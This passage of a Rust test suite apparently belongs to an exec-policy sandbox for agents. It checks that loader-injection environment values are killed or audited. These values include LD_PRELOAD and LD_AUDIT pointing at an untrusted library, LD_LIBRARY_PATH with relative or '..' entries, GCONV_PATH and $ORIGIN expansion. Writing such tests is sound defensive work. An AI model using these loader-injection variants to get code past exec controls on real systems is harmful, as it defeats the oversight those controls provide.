    std::fs::create_dir_all(&plain).expect("plain");
    let fixture = allowed.join("fixture");
    install(Path::new(FIXTURE), &fixture);
    let library = plain.join("x.so");
    std::fs::write(&library, "not a library\n").expect("x.so");
    let libc_path = libc_in_this_process();
    let libc_dir = Path::new(&libc_path).parent().expect("libc's directory").display().to_string();
    let audit = dir.path().join("audit.jsonl");
    let write_policy = |mode: &str| agent_dir_policy(dir.path(), mode, &allowed, "");
    let long = format!("NOTES={}", "n".repeat(5000));
    let plain_text = plain.display().to_string();
    let library_text = library.display().to_string();
    let cases: Vec<LoaderCase> = vec![
        (
            vec![format!("LD_PRELOAD={library_text}")],
            Some(("LD_PRELOAD", "not_allowed", library_text.clone())),
        ),
        (
            vec![long.clone(), format!("LD_PRELOAD={library_text}")],
            Some(("LD_PRELOAD", "not_allowed", library_text.clone())),
        ),
        (
            vec![format!("LD_PRELOAD=libm.so.6 {library_text}")],
            Some(("LD_PRELOAD", "not_allowed", library_text.clone())),
        ),
        (vec![format!("LD_AUDIT={library_text}")], Some(("LD_AUDIT", "not_allowed", library_text.clone()))),
        (vec!["LD_AUDIT=$ORIGIN/x.so".into()], Some(("LD_AUDIT", "expansion", "$ORIGIN/x.so".into()))),
        (
            vec![format!("LD_LIBRARY_PATH={libc_dir}:{plain_text}")],
            Some(("LD_LIBRARY_PATH", "not_allowed", plain_text.clone())),
        ),
        (vec![format!("LD_LIBRARY_PATH={libc_dir}::")], Some(("LD_LIBRARY_PATH", "relative", String::new()))),
        (vec!["LD_LIBRARY_PATH=lib".into()], Some(("LD_LIBRARY_PATH", "relative", "lib".into()))),
        (
            vec![format!("LD_LIBRARY_PATH={libc_dir}/../../../tmp")],
            Some(("LD_LIBRARY_PATH", "dot_dot", format!("{libc_dir}/../../../tmp"))),
        ),
        (vec![format!("GCONV_PATH={plain_text}")], Some(("GCONV_PATH", "not_allowed", plain_text.clone()))),
        // What runs.
        (vec![format!("LD_PRELOAD={libc_path}")], None),
        (vec!["LD_PRELOAD=libm.so.6".into()], None),
        (vec![format!("LD_LIBRARY_PATH={libc_dir}:{libc_dir}/")], None),
        (
            vec!["LD_LIBRARY_PATH=".into(), long, "LD_PRELOADX=/tmp/x".into(), "XLD_PRELOAD=/tmp/x".into()],
            None,
        ),
    ];
    let mut command: Vec<String> = vec![fixture.display().to_string(), "each".into()];
    for (i, (env, _)) in cases.iter().enumerate() {
        if i > 0 {
            command.push("--".into());
        }
        command.extend(env.iter().cloned());
        command.extend(["fixture".into(), fixture.display().to_string(), "sys".into()]);
    }
    let run = |policy: &Path| -> (String, Vec<Value>) {
        let _ = std::fs::remove_file(&audit);
        let out = sentra_tests::run_command(policy, &audit, &command)
            .current_dir(dir.path())
            .output()
            .expect("run");
        assert!(out.status.success(), "{out:?}");
        (stdout(&out), read_records(&audit))
    };
    let (text, records) = run(&write_policy("enforce"));
    let outcomes: Vec<&str> = text.lines().filter_map(|l| l.split_once(' ').map(|(_, o)| o)).collect();
    assert_eq!(outcomes.len(), cases.len(), "{text}");
    let start = records.iter().find(|r| r["event"] == "controller_start").expect("start record");
    let loader: Vec<&Value> = records.iter().filter(|r| r["action"] == "loader_env").collect();
    run_refuses_what_the_kernel_would(
        &write_policy("enforce"),
        &audit,
        &fixture,
        &library_text,
        start["backend"] == "lsm",
    );
    if start["backend"] == "lsm" {
        assert!(outcomes.iter().all(|o| *o == "exit=0"), "{text}");
        assert!(loader.is_empty(), "{loader:?}");
        return;
    }
    for ((env, expected), outcome) in cases.iter().zip(&outcomes) {
        match expected {
            None => assert_eq!(*outcome, "exit=0", "{env:?} should run: {text}"),
            Some(_) => assert_eq!(*outcome, "signal=9", "{env:?} should be killed: {text}"),
        }
    }
    let refused: Vec<_> = cases.iter().filter_map(|(_, e)| e.as_ref()).collect();
    assert_eq!(loader.len(), refused.len(), "{loader:?}");
    for (record, expected) in loader.iter().zip(&refused) {
        assert_loader_record(record, expected);
    }

    // Audit mode: every program runs, each refusal recorded as such.
    let (text, records) = run(&write_policy("audit"));
    assert!(text.lines().all(|l| l.ends_with("exit=0")), "{text}");
    let audited =
        records.iter().filter(|r| r["action"] == "loader_env" && r["decision"] == "auditonly").count();
    assert_eq!(audited, refused.len(), "{records:?}");
}

/// A `loader_env` refusal's record names the variable, the fault and the whole entry.
fn assert_loader_record(record: &Value, (variable, fault, entry): &(&str, &str, String)) {
    assert_eq!(record["decision"], "denied", "{record}");
    assert_eq!(record["rule_id"], "loader_env", "{record}");
    assert_eq!(record["detail"]["variable"], *variable, "{record}");
    assert_eq!(record["detail"]["fault"], *fault, "{record}");
    assert_eq!(record["detail"]["entry"].as_str().unwrap_or_default(), entry.as_str(), "{record}");
    assert!(record["reason"].as_str().is_some_and(|r| r.contains(variable)), "{record}");
}

/// `run` itself, handed an environment the signal backend's kernel would refuse (`LD_PRELOAD` of
/// `library`), refuses to start `fixture` and says which variable and entry; the lsm backend judges
/// the mapped files instead, and the command runs.
fn run_refuses_what_the_kernel_would(policy: &Path, audit: &Path, fixture: &Path, library: &str, lsm: bool) {
    // Beside the allowed directory, not in it: the lsm backend keeps governed tasks from writing
    // where programs may run from.
    let marker = fixture.parent().and_then(Path::parent).expect("the scene's directory").join("started");
    let out = sentra_tests::run_command(
        policy,
        audit,
        &[fixture.display().to_string(), "sys".into(), format!("create:{}", marker.display())],
    )
    .env("LD_PRELOAD", library)
    .output()
    .expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    if lsm {
        assert!(out.status.success() && marker.exists(), "{out:?}");
        assert!(String::from_utf8_lossy(&out.stdout).contains("errno=0"), "{out:?}");
    } else {
        assert!(!out.status.success() && !marker.exists(), "started: {out:?}");
        assert!(err.contains(&format!("LD_PRELOAD: `{library}`")) && err.contains("exec.libraries"), "{err}");
    }
}

/// The C library this process maps (its path as the loader found it).
fn libc_in_this_process() -> String {
    let maps = std::fs::read_to_string("/proc/self/maps").expect("maps");
    maps.lines()
        .filter_map(|l| l.split_whitespace().nth(5))
        .find(|p| p.contains("/libc.so"))
        .expect("libc in this process")
        .to_string()
}

/// `DIR/MODE.yaml`: default deny, the exec rule `agent_dir` allowing `allowed`, then `more_rules`
/// (lines of the exec allow list).
fn agent_dir_policy(dir: &Path, mode: &str, allowed: &Path, more_rules: &str) -> PathBuf {
    let policy = dir.join(format!("{mode}.yaml"));
    let text = format!(
        "version: \"2.0\"\nmode: {mode}\ndefault: deny\nexec:\n  default: deny\n  allow:\n    - {{ id: agent_dir, dir: {} }}\n{more_rules}",
        allowed.display()
    );
    std::fs::write(&policy, text).expect("policy");
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    policy
}
